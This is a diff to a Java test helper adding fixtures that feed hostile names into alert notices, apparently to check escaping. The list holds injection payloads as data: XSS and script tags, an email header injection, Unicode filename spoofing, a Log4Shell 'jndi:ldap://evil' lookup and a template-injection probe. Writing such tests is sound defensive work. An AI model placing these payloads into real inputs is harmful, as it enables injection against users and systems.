@@ -125,6 +125,40 @@ public final class Notices {
         "https://console.example.com/" + "x".repeat(100_000));
   }
 
+  /** Names of accounts, of people who mean harm and of others who only look like it. */
+  public static List<String> namesOfAllKinds() {
+    return List.of(
+        "<!channel>",
+        "<@U123> <https://evil.example|click>",
+        "<img src=x onerror=alert(1)>",
+        "<script>alert('&')</script>",
+        "Acme\r\nBcc: all@evil.example",
+        "Acme\n\n250 OK\u2028next\u2029next\u0085next",
+        "\u202Egnp.exe\u202C \u200Bzero\u2066wide",
+        "\u001B[31mred\u0000\u0007",
+        "[click](https://evil.example) **bold** `code` ${jndi:ldap://evil}",
+        "{{7*7}} \"quoted\" \\ 'single'",
+        "\uD83D\uDE80 Rocket & S\u00f6hne \u5065\u5eb7",
+        "half a rocket \uD83D");
+  }
+
+  /** An alert in which every text is this one. */
+  public static Notice saying(String text) {
+    return new Notice(
+        "a1",
+        "rule " + text,
+        "R46",
+        Step.RAISED,
+        Urgency.WARNING,
+        NOON,
+        NOON,
+        "said " + text,
+        new Finding(21.8, 20.0, 7, 41.2, 63.0, text, "INTERVENE", "do " + text, "M0 1"),
+        List.of(new Mover("measure " + text, -8.25)),
+        new Subject(text, text, text, text, 1L, text, null),
+        text);
+  }
+
   /** An account with a name and a summary from somebody who means harm. */
   public static Notice hostile(String alertId) {
     return new Notice(
